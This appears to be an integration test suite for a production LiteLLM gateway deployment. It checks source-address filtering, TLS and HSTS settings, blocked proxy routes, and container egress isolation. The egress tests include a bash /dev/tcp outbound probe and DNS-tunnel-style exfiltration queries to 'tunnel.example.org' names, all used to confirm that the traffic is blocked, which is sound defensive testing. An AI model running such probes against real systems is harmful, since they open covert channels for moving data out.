"""The production stack on a real engine: who may call it, whom it may call, and where its secrets stand."""

import json
import re
import ssl
import subprocess
from concurrent.futures import ThreadPoolExecutor
from importlib.util import find_spec
from pathlib import Path

import httpx
import pytest
from dnslib import DNSRecord

from testbed.deployment import Deployment, docker
from testbed.hosts import Host, Internet
from tests.integration.conftest import PRIVATE
from tests.integration.test_dev import HELLO, reached, through_the_proxy
from tests.integration.verdicts import assert_clean

PORT = 14443


def models(prod: Deployment, client: Host, authority: str, *options: str, key: bool = True) -> str:
    header = ("-H", f"Authorization: Bearer {prod.output('master_key')}") if key else ()
    return client.curl(f"https://{prod.output('url')[8:]}/v1/models", "--cacert", authority, *header, *options)


def over_ipv6(client: Host) -> tuple[str, str]:
    return "--connect-to", f"::[{client.machine6}]:{PORT}"


def test_a_production_stack_is_complete_and_stable(prod: Deployment, friend: Host) -> None:
    assert prod.output("master_key_source") == "generated"
    assert prod.output("url") == f"https://{friend.machine}:{PORT}"
    assert prod.changes() == {}
    assert set(prod.up(refresh=True).summary.resource_changes or {}) == {"same"}


def test_it_is_secure_by_its_own_check(prod: Deployment) -> None:
    assert_clean(prod, warnings=set(), exceptions={"cis.5.14"})


def test_an_allowed_source_is_served_over_both_families(prod: Deployment, friend: Host, authority: str) -> None:
    assert models(prod, friend, authority) == "200"
    assert models(prod, friend, authority, *over_ipv6(friend)) == "200"
    assert models(prod, friend, authority, key=False) == "401"
    line = json.loads([x for x in docker("logs", prod.container("gateway")).splitlines() if x.startswith("{")][-2])
    assert line["source"].endswith(friend.address6) or line["source"] == friend.address


def test_a_denied_source_does_not_get_as_far_as_tls(prod: Deployment, stranger: Host, authority: str) -> None:
    for options in ((), over_ipv6(stranger)):
        assert models(prod, stranger, authority, *options, "--connect-timeout", "5") == "000"
    greeting = (
        "import socket, sys; s = socket.create_connection((sys.argv[1], 14443), 5); s.sendall(b'x'); print(s.recv(9))"
    )
    done = stranger.run("python3", "-c", greeting, stranger.machine)
    assert "ConnectionResetError" in done.stderr or done.stdout.strip() == "b''"


def test_the_host_has_a_switch_of_its_own(prod: Deployment, authority: str) -> None:
    done = subprocess.run(
        ["curl", "-s", "--cacert", authority, "--connect-to", f"::127.0.0.1:{PORT}", f"{prod.output('url')}/healthz"],
        check=False,
    )
    assert done.returncode in (35, 52, 56)  # the connection was closed before or within the handshake


@pytest.mark.parametrize("options", [("--tls-max", "1.1"), ("--ciphers", "AES128-SHA", "--tls-max", "1.2")])
def test_old_tls_is_refused(prod: Deployment, friend: Host, authority: str, options: tuple[str, ...]) -> None:
    assert models(prod, friend, authority, *options) == "000"


def test_plain_http_and_other_names_are_refused(prod: Deployment, friend: Host, authority: str) -> None:
    assert friend.curl(f"http://{friend.machine}:{PORT}/v1/models") in ("000", "400")
    assert friend.curl(f"http://{friend.machine}:80/v1/models") == "000"
    assert models(prod, friend, authority, "-H", "Host: other.example.org") in ("404", "421")


def test_browsers_are_told_to_stay_with_https(prod: Deployment) -> None:
    answer = prod.call("/v1/models")
    assert answer.status == 200
    assert "max-age=" in {name.lower(): value for name, value in answer.headers.items()}["strict-transport-security"]


def test_no_operation_of_litellms_proxy_outside_the_model_api_answers(prod: Deployment, authority: str) -> None:
    proxy = Path(str(find_spec("litellm").submodule_search_locations[0])) / "proxy"  # type: ignore[union-attr, index]
    declared = re.compile(r'@(?:router|app)\.(get|post|put|delete|patch)\(\s*"(/[^"]*)"')
    operations = {
        (verb.upper(), path)
        for file in proxy.rglob("*.py")
        for verb, path in declared.findall(file.read_text(encoding="utf-8"))
    }
    assert len(operations) > 500
    model_api = {"models", "chat/completions", "messages", "messages/count_tokens", "responses", "completions"}
    allowed = model_api | {"health/readiness", "health/liveliness", "health/liveness"}
    answered = []
    key = {"authorization": f"Bearer {prod.output('master_key')}"}
    with httpx.Client(
        base_url=prod.output("url"), verify=ssl.create_default_context(cafile=authority), timeout=10
    ) as client:
        for verb, path in sorted(operations):
            concrete = path.replace("{", "").replace("}", "")
            for headers in ({}, key):
                if headers and concrete.strip("/").removeprefix("v1/").split("/model_id")[0] in allowed:
                    continue
                try:
                    status = client.request(verb, concrete, headers=headers).status_code
                except httpx.TransportError:
                    assert not headers, "only who sends no key, again and again, loses the connection"
                    continue
                if status not in (401, 404, 405, 429):
                    answered.append((verb, path, status, bool(headers)))
    assert answered == []


def test_nothing_leads_out_of_the_litellm_container(prod: Deployment, net: Internet) -> None:
    prefix = next(iter(prod.inspect("litellm")["NetworkSettings"]["Networks"].values()))["IPAddress"].rsplit(".", 1)[0]
    four = (f"{prefix}.1", "172.17.0.1", net.host.machine, net.host.address, "169.254.169.254", "1.1.1.1")
    six = (net.host.address6, net.host.machine6, "fd00:ec2::254", "2606:4700::1111")
    assert reached(prod, (*four, *six), [443]) == "reached"
    question = bytes(DNSRecord.question("datagram.tunnel.example.org").pack()).hex()
    send = (
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM);"
        f"s.sendto(bytes.fromhex('{question}'), ('{net.host.address}', 53))"
    )
    prod.exec("litellm", "python3", "-c", send)
    assert "datagram.tunnel.example.org" not in net.questions()


def test_names_outside_do_not_resolve_and_no_question_leaves(prod: Deployment, net: Internet) -> None:
    ask = "import socket, sys; print(socket.gethostbyname(sys.argv[1]))"
    with ThreadPoolExecutor() as pool:  # each waits until the resolver gives up
        names = ("api.anthropic.com", "secret-data.tunnel.example.org")
        answers = list(pool.map(lambda name: prod.exec("litellm", "python3", "-c", ask, name), names))
    assert ["gaierror" in answer for answer in answers] == [True, True]
    assert "secret-data.tunnel.example.org" not in net.questions()
    assert prod.exec("litellm", "python3", "-c", ask, "egress").count(".") == 3


@pytest.mark.parametrize(
    ("target", "status"),
    [("api.anthropic.com:443", "200"), (f"{PRIVATE}:443", "403"), ("claude.ai:443", "403"), ("egress:3128", "403")],
)
def test_the_proxy_does_not_lead_to_private_addresses(prod: Deployment, target: str, status: str) -> None:
    assert through_the_proxy(prod, target) == status


def test_the_gateway_has_no_way_out(prod: Deployment, net: Internet) -> None:
    probe = f"(echo x > /dev/tcp/{net.host.address}/443) 2>&1 && echo connected"
    assert "connected" not in prod.exec("gateway", "timeout", "3", "bash", "-c", probe)


def test_a_completion_goes_through_the_whole_stack(prod: Deployment) -> None:
    answer = prod.call("/v1/chat/completions", body=HELLO)
    assert answer.status == 200
    assert answer.json()["choices"][0]["finish_reason"] == "stop"
